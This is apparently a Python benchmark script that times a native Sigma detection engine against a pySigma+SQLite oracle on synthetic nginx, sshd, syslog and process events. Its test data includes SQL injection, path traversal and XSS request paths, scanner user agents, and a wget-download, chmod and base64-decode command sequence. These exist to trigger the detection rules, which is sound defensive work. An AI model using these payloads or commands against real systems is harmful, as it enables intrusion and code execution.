"""Benchmark: the native Sigma engine against the pySigma + SQLite oracle, same rules, same events.

    python bench/rules.py [--events 100000] [--oracle-events 20000] [--rules PATH ...]

Rules: every rule under tests/data/sigma/rules (308 SigmaHQ rules, linux/web/network) plus the
bundled SSH brute-force correlation, compiled with the ECS mapping pipeline. Events: realistic ECS
documents as the parsers emit them - nginx access lines (with scanners, SQL injection and path
traversal mixed in), sshd successes and failures (with a brute force), sudo, cron and other syslog
lines, and Linux process starts. Both engines see identical events; the oracle is pySigma's SQLite
backend with the same pipeline (insert the events, run every rule's query), measured in the same
run, and the ratio is printed. Single process, one core.
"""
from __future__ import annotations

import argparse
import os
import random
import sys
import time
from pathlib import Path

import orjson

ROOT = Path(__file__).resolve().parent.parent

UAS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
       "curl/8.5.0", "Googlebot/2.1 (+http://www.google.com/bot.html)", "python-requests/2.31.0"]
BAD_UAS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "Nikto/2.5.0"]
PATHS = ["/", "/index.html", "/static/app.js", "/api/v1/items?page=2", "/login", "/images/logo.png",
         "/search?q=shoes", "/api/v1/users/42", "/favicon.ico", "/blog/2026/11/hello-world", "/cart?add=1234"]
BAD_PATHS = ["/wp-login.php", "/.env", "/cgi-bin/test.cgi", "/admin/config.php",
             "/index.php?id=1%20UNION%20SELECT%20password%20FROM%20users", "/../../etc/passwd",
             "/?q=<script>alert(1)</script>"]
ATTACK_SHARE = 0.03  # share of web requests from scanners / carrying attack strings
CMDS = [("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/curl", "curl -s https://example.org/health"),
        ("/usr/bin/bash", "bash -c id"), ("/usr/bin/python3", "python3 manage.py migrate"),
        ("/usr/bin/base64", "base64 -d /tmp/payload"), ("/usr/bin/crontab", "crontab -l"),
        ("/usr/bin/systemctl", "systemctl status nginx"), ("/usr/bin/wget", "wget http://198.51.100.4/x.sh -O /tmp/x.sh"),
        ("/usr/sbin/useradd", "useradd -m deploy"), ("/usr/bin/chmod", "chmod +x /tmp/x.sh")]


def ts(i: int) -> str:
    s = i // 50
    return f"2026-11-26T{10 + s // 3600 % 10:02d}:{s // 60 % 60:02d}:{s % 60:02d}.{i % 1000:03d}Z"


def event(i: int, rng: random.Random) -> dict:
    r = rng.random()
    host = {"name": f"web-{rng.randrange(4)}"}
    base = {"@timestamp": ts(i), "host": host, "agent": {"type": "logwarden", "version": "0.1.0"},
            "log": {"file": {"path": "/var/log/x.log"}, "offset": i * 120}}
    if r < 0.55:
        ip = f"198.51.100.{rng.randrange(1, 255)}"
        bad = rng.random() < ATTACK_SHARE
        path = rng.choice(BAD_PATHS if bad else PATHS)
        ua = rng.choice(BAD_UAS if bad and rng.random() < 0.5 else UAS)
        method = rng.choice(["GET", "GET", "GET", "POST", "HEAD"])
        status = rng.choice([200, 200, 200, 304, 404, 500, 301])
        line = f'{ip} - - [26/Nov/2026:10:00:00 +0000] "{method} {path} HTTP/1.1" {status} {rng.randrange(100, 9000)} "-" "{ua}"'
        return base | {"message": line, "event": {"id": f"e{i}", "kind": "event", "category": ["web"], "type": ["access"],
                       "dataset": "nginx.access", "module": "nginx", "original": line, "outcome": "success" if status < 400 else "failure"},
                       "source": {"ip": ip}, "http": {"request": {"method": method}, "response": {"status_code": status, "body": {"bytes": 512}}, "version": "1.1"},
                       "url": {"original": path, "path": path.split("?")[0]}, "user_agent": {"original": ua}}
    if r < 0.75:
        ok = rng.random() < 0.7
        ip = "203.0.113.5" if rng.random() < 0.1 else f"192.0.2.{rng.randrange(1, 255)}"
        user = rng.choice(["root", "admin", "deploy", "ubuntu"])
        port = rng.randrange(30000, 60000)
        line = (f"Accepted publickey for {user} from {ip} port {port} ssh2" if ok
                else f"Failed password for invalid user {user} from {ip} port {port} ssh2")
        return base | {"message": line, "event": {"id": f"e{i}", "kind": "event", "category": ["authentication"],
                       "type": ["start"], "outcome": "success" if ok else "failure", "dataset": "system.auth", "original": line},
                       "process": {"name": "sshd", "pid": rng.randrange(100, 60000)}, "source": {"ip": ip, "port": port},
                       "user": {"name": user}}
    if r < 0.85:
        exe, cmd = rng.choice(CMDS)
        return base | {"message": f"exec {cmd}", "event": {"id": f"e{i}", "kind": "event", "category": ["process"], "type": ["start"]},
                       "process": {"executable": exe, "name": exe.rsplit("/", 1)[-1], "command_line": cmd, "pid": rng.randrange(100, 60000),
                                   "parent": {"executable": "/usr/bin/bash"}, "working_directory": "/home/deploy"},
                       "user": {"name": rng.choice(["root", "deploy", "www-data"])}}
    prog, msg = rng.choice([
        ("sudo", "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
        ("CRON", "(root) CMD (run-parts /etc/cron.hourly)"), ("systemd", "Started Session 42 of user deploy."),
        ("kernel", "[UFW BLOCK] IN=eth0 OUT= SRC=192.0.2.9 DST=10.0.0.5 PROTO=TCP DPT=23"),
        ("postfix/smtpd", "connect from unknown[192.0.2.44]")])
    return base | {"message": msg, "event": {"id": f"e{i}", "kind": "event", "category": ["host"], "dataset": "system.syslog"},
                   "process": {"name": prog, "pid": rng.randrange(100, 60000)}}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=100_000)
    ap.add_argument("--oracle-events", type=int, default=0, help="events for the oracle (default: all)")
    ap.add_argument("--repeat", type=int, default=3, help="runs per engine; the best is reported")
    ap.add_argument("--rules", nargs="*", default=[str(ROOT / "tests" / "data" / "sigma" / "rules")])
    args = ap.parse_args()

    from confluent_kafka import Message

    from logwarden.events import ALERTS_TOPIC, ECS_TOPIC
    from logwarden.rules.alerts import AlertPolicy, build_alert
    from logwarden.rules.config import RulesConfig
    from logwarden.rules.service import RulesStage
    from logwarden.rules.ruleset import BUNDLED_DIR, load
    from logwarden.rules.engine import Engine
    from logwarden.rules.mapping import load as load_pipeline
    sys.path.insert(0, str(ROOT / "tests"))  # the oracle is test code (tests/sigma_oracle.py), not shipped
    from sigma_oracle import SqliteOracle

    paths = [*args.rules, str(BUNDLED_DIR)]
    t0 = time.perf_counter()
    rs = load(paths, "ecs")
    load_s = time.perf_counter() - t0
    eng = Engine(rs)
    rng = random.Random(42)
    events = [event(i, rng) for i in range(args.events)]
    raw = [orjson.dumps(e) for e in events]
    print(f"rules: {len(rs.rules)} detection + {len(rs.correlations)} correlation, {len(rs.errors)} errors, "
          f"compiled in {load_s * 1000:.0f} ms; index: {sum(len(v) for v in eng.index.values())} literals on "
          f"{len(eng.index)} fields, {len(eng.always)} rules always evaluated")

    # Other processes share the machine: every figure is the best of `--repeat` runs, and
    # native and oracle runs alternate so both see the same background load.
    # Rates are events per CPU-second of this process (time.process_time): "per core",
    # and not diluted when other processes compete for the CPU. Wall-clock rates are
    # printed too.
    def native_match() -> tuple[float, float, int]:
        t0, c0 = time.perf_counter(), time.process_time()
        n = 0
        for e in events:
            n += len(eng.match(e)[1])
        return len(events) / (time.process_time() - c0), len(events) / (time.perf_counter() - t0), n

    def native_full() -> tuple[float, float, int]:
        e2 = Engine(rs)
        t0, c0 = time.perf_counter(), time.process_time()
        n = 0
        for b in raw:
            for hit in e2.process(orjson.loads(b)):
                orjson.dumps(build_alert(hit, 0.0))
                n += 1
        return len(raw) / (time.process_time() - c0), len(raw) / (time.perf_counter() - t0), n

    # The stage itself: RulesStage.process() on Kafka Message objects in batches of 5,000
    # (run_stage's default): decode, event time and watermark, match, correlate, alert
    # documents, alert policy (min level informational, dedup, no suppression), metrics,
    # serialised outputs. Fresh correlation and policy state per run; the stage's compiled
    # rule set (and its warmed matcher) is kept, as in a running worker.
    stage = RulesStage(RulesConfig(paths=args.rules, bundled=True, mapping="ecs", min_level="informational"))
    msgs = [Message(topic=ECS_TOPIC, partition=0, offset=i, value=b) for i, b in enumerate(raw)]

    def native_stage() -> tuple[float, float, int]:
        stage.engine = Engine(stage.engine.ruleset)
        stage.policy = AlertPolicy(stage.cfg)
        t0, c0 = time.perf_counter(), time.process_time()
        n = 0
        for i in range(0, len(msgs), 5000):
            n += sum(1 for o in stage.process(msgs[i:i + 5000]) if o.topic == ALERTS_TOPIC)
        return len(msgs) / (time.process_time() - c0), len(msgs) / (time.perf_counter() - t0), n

    texts = [p.read_text() for d in args.rules for p in sorted(Path(d).rglob("*.yml"))]
    oracle = SqliteOracle(texts, load_pipeline("ecs"))
    sub = events[: args.oracle_events or len(events)]

    def oracle_run() -> tuple[float, float, dict]:
        t0, c0 = time.perf_counter(), time.process_time()
        res = oracle.evaluate(sub)
        return len(sub) / (time.process_time() - c0), len(sub) / (time.perf_counter() - t0), res

    best = {"match": 0.0, "full": 0.0, "stage": 0.0, "oracle": 0.0}
    wall = {"match": 0.0, "full": 0.0, "stage": 0.0, "oracle": 0.0}
    for _ in range(args.repeat):
        eps, w, matched = native_match()
        best["match"], wall["match"] = max(best["match"], eps), max(wall["match"], w)
        eps, w, alerts = native_full()
        best["full"], wall["full"] = max(best["full"], eps), max(wall["full"], w)
        eps, w, stage_alerts = native_stage()
        best["stage"], wall["stage"] = max(best["stage"], eps), max(wall["stage"], w)
        eps, w, theirs = oracle_run()
        best["oracle"], wall["oracle"] = max(best["oracle"], eps), max(wall["oracle"], w)
    stage.close()
    oracle_matches = sum(len(v) for v in theirs.values())
    ours: dict[str, set[int]] = {rid: set() for rid in theirs}
    for i, e in enumerate(sub):
        for r in eng.match(e)[1]:
            if r.doc.id in ours:
                ours[r.doc.id].add(i)
    ours_sub = sum(len(v) for v in ours.values())
    same = all(ours[rid] == theirs[rid] for rid in theirs)
    print("events per CPU-second of one process (wall-clock rate in brackets):")
    print(f"native match:        {best['match']:>10,.0f} events/s [{wall['match']:,.0f}] ({matched} rule matches in {len(events)} events)")
    print(f"native bytes->alert: {best['full']:>10,.0f} events/s [{wall['full']:,.0f}] (JSON decode, match, correlate, alert documents: {alerts} alerts)")
    print(f"RulesStage.process: {best['stage']:>10,.0f} events/s [{wall['stage']:,.0f}] (the stage on Kafka messages, policy and metrics included: {stage_alerts} alerts)")
    print(f"pySigma+SQLite:      {best['oracle']:>10,.0f} events/s [{wall['oracle']:,.0f}] ({oracle_matches} rule matches in {len(sub)} events; "
          f"native: {ours_sub} on the same rules - {'every (rule, event) verdict agrees' if same else 'VERDICTS DIFFER'})")
    print(f"ratio native/oracle: {best['match'] / best['oracle']:.1f}x (match), {best['full'] / best['oracle']:.1f}x (bytes->alert), "
          f"{best['stage'] / best['oracle']:.1f}x (RulesStage); "
          f"best of {args.repeat}, load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} cores")


if __name__ == "__main__":
    sys.exit(main())
